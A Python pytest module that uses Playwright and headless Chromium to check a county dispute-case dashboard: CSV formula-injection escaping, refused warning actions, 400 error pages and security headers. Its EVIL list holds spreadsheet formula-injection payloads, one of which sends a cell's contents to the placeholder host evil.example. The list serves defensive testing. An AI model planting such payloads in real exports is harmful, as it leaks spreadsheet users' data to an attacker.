"""The dashboard's issue-15 findings, driven in a real headless Chromium (Debian's package,
by Playwright) against one real relay serving the demo county on 127.0.0.1: one browser and
one relay for the whole module, so the checks stay fast.

- CSV exports quote cells a spreadsheet would run as formulas (OWASP), numbers stay numbers;
- a refused warning action (a note over 2,000 characters, a closed warning) shows the real
  error, keeps the typed note, saves and audits nothing;
- an absurd page number or month answers 400 with a page in the operator's language;
- the security headers are on every response: 200, 302, 401, 403, 404.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import types
from pathlib import Path
from typing import Any, AsyncIterator

import pytest
import pytest_asyncio

from node import Node
from node.daemon import Syncer
from store import Store
from store.records import WARNING, Party

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)",
        "\t=1+1", "\r=1+1"]

pytestmark = [pytest.mark.skipif(shutil.which("chromium") is None,
                                 reason="needs Debian's chromium (make system-deps installs it)"),
              pytest.mark.asyncio(loop_scope="module")]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def relay(served_county: types.SimpleNamespace,
                tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Any]:
    """The demo county served by a real relay (conftest's ``served_county``), with
    villages' cases titled as formulas (brought by a real node's sync)."""
    tmp = tmp_path_factory.mktemp("findings")
    node = await Node.create(tmp / "by-node", village="BY", village_name="白云村",
                             county="KC", director="周主任")
    node.config.relay_url = f"ws://127.0.0.1:{served_county.port}/v1/sync"
    node.home.save(node.config)
    try:
        for title in EVIL:
            await node.cases.register(category="loan", title=title,
                                      parties=[Party("applicant", "祝建国", "13957001234")],
                                      description="公式测试")
        res = await Syncer(node, discovery=False).sync_relay()
        assert res.ok, res.error
        yield served_county
    finally:
        await node.close()


@pytest.fixture(scope="module")
def logged_in(open_dashboard: Any) -> Any:
    async def login(browser: Any, base: str, name: str = "operator") -> Any:
        return await open_dashboard(base, name)
    return login


async def test_csv_cells_that_are_formulas_are_quoted(relay, browser, logged_in,
                                                      tmp_path: Path) -> None:
    page = await logged_in(browser, relay.base)
    try:
        await page.goto(f"{relay.base}/dashboard/villages/BY?all=1")
        async with page.expect_download() as info:
            await page.click("h2:has-text('案件列表') a.csv")
        saved = tmp_path / "cases.csv"
        await (await info.value).save_as(saved)
        rows = list(csv.reader(io.StringIO(saved.read_text(encoding="utf-8-sig"),
                                           newline="")))
        titles = {r[1] for r in rows[1:]}
        for title in EVIL:  # the store trims a title's blanks: "\t=1+1" is "=1+1"
            assert "'" + title.strip() in titles, (title, sorted(titles)[:5])
        for r in rows:  # no cell left that a spreadsheet would run
            assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in r), r
            assert not any(c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c)
                           for c in r), r
    finally:
        await page.context.close()


async def test_a_negative_number_stays_a_number() -> None:
    from relay.dashboard.export import safe_cell
    assert safe_cell(-3) == -3 and safe_cell("-3.5") == "-3.5"
    assert safe_cell("-3+A1") == "'-3+A1" and safe_cell("普通") == "普通"
    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1") == "'\r=1"
    assert safe_cell("=1") == "'=1" and safe_cell("+1") == "'+1" and safe_cell("@A") == "'@A"


async def open_warning(store: Store) -> str:
    (doc_id,), = await store.query(
        "SELECT doc_id FROM records WHERE kind = ? AND status = 'open' "
        "ORDER BY updated_at DESC LIMIT 1", (WARNING,))
    return str(doc_id)


def audit_count(relay: Any) -> int:
    acc = relay.accounts
    return acc.count_events("warning_acknowledged") + acc.count_events("warning_closed")


async def test_a_refused_warning_action_says_why_and_keeps_the_note(relay, browser,
                                                                   logged_in) -> None:
    doc_id = await open_warning(relay.store)
    before = await relay.store.read(doc_id)
    audited = audit_count(relay)
    page = await logged_in(browser, relay.base)
    try:
        await page.goto(f"{relay.base}/dashboard/warnings")
        card = page.locator(f"li.warning[data-doc='{doc_id}']")
        long_note = "走访" * 1001  # 2,002 characters
        await card.locator("input[name=note]").fill(long_note)
        await card.locator("button[value=acknowledged]").click()
        await page.wait_for_load_state()
        text = await page.text_content("#act-error") or ""
        assert "2000" in text and "未保存" in text
        assert "预警已更新" not in (await page.content())
        assert await page.locator(f"li.warning[data-doc='{doc_id}'] input[name=note]"
                                  ).input_value() == long_note
        after = await relay.store.read(doc_id)
        assert after["status"] == before["status"] == "open"
        assert after.get("note", "") == before.get("note", "")
        assert audit_count(relay) == audited

        # Close it, then act again from a stale page: refused, the note shown back.
        await page.goto(f"{relay.base}/dashboard/warnings")
        stale = await browser.new_page()
        await stale.context.add_cookies(await page.context.cookies())
        await stale.goto(f"{relay.base}/dashboard/warnings")
        await card.locator("input[name=note]").fill("已化解")
        await card.locator("button[value=closed]").click()
        await page.wait_for_load_state()
        assert "预警已更新" in (await page.text_content("p.flash") or "")
        assert (await relay.store.read(doc_id))["status"] == "closed"
        s_card = stale.locator(f"li.warning[data-doc='{doc_id}']")
        await s_card.locator("input[name=note]").fill("再次确认")
        await s_card.locator("button[value=acknowledged]").click()
        await stale.wait_for_load_state()
        assert "已经关闭" in (await stale.text_content("#act-error") or "")
        assert await stale.locator("#act-error textarea").input_value() == "再次确认"
        assert "预警已更新" not in (await stale.content())
        assert audit_count(relay) == audited + 1  # the close only
        closed = await relay.store.read(doc_id)
        assert closed["status"] == "closed" and closed["note"] == "已化解"
        await stale.context.close()
    finally:
        await page.context.close()


async def test_absurd_page_and_month_answer_400_in_the_operators_language(
        relay, browser, logged_in) -> None:
    page = await logged_in(browser, relay.base)
    try:
        for path in ("/dashboard/villages/BY?page=999999999999999999999",
                     "/dashboard/villages/BY?page=-1",
                     "/dashboard/report?month=9999-12", "/dashboard/report?month=abc"):
            r = await page.goto(relay.base + path)
            assert r is not None and r.status == 400, path
            assert await page.text_content("h1") == "请求有误"
            assert await page.locator("#error-message").count() == 1
        await page.goto(f"{relay.base}/dashboard/lang/en")
        r = await page.goto(f"{relay.base}/dashboard/report?month=9999-12")
        assert r is not None and r.status == 400
        assert await page.text_content("h1") == "Bad request"
        assert "YYYY-MM" in (await page.text_content("#error-message") or "")
        await page.goto(f"{relay.base}/dashboard/lang/zh")
    finally:
        await page.context.close()


HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options")


async def test_security_headers_on_every_response(relay, browser, logged_in) -> None:
    seen: dict[int, dict[str, str]] = {}
    ctx = await browser.new_context(locale="zh-CN")
    page = await ctx.new_page()
    try:
        # 302 (no session: to the login page) and 200, as the browser met them.
        page.on("response", lambda r: seen.setdefault(r.status, r.headers))
        await page.goto(f"{relay.base}/dashboard/warnings")
        assert "/dashboard/login" in page.url
        # 401: an export without a session.
        r401 = await ctx.request.get(f"{relay.base}/dashboard/export/cases.csv",
                                     max_redirects=0)
        # 404: a path no route matches, and one that names no document.
        page2 = await logged_in(browser, relay.base, "judge")
        r404 = await page2.context.request.get(f"{relay.base}/dashboard/no-such-page")
        r404b = await page2.context.request.get(f"{relay.base}/dashboard/cases/nope")
        # 403: a judge may not read the audit log; and a POST without CSRF token.
        r403 = await page2.context.request.get(f"{relay.base}/dashboard/audit")
        r403b = await page2.context.request.post(f"{relay.base}/dashboard/warnings/run",
                                                 form={"_csrf": "wrong"})
        await page2.context.close()
        got = {302: seen.get(302), 200: seen.get(200), 401: r401.headers,
               404: r404.headers, 403: r403.headers}
        assert (r401.status, r404.status, r404b.status, r403.status, r403b.status) == (
            401, 404, 404, 403, 403)
        for status, headers in [*got.items(), (404, r404b.headers), (403, r403b.headers)]:
            assert headers is not None, status
            for h in HEADERS:
                assert h in headers, (status, h)
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["x-frame-options"] == "DENY"
            assert headers["x-content-type-options"] == "nosniff"
    finally:
        await ctx.close()
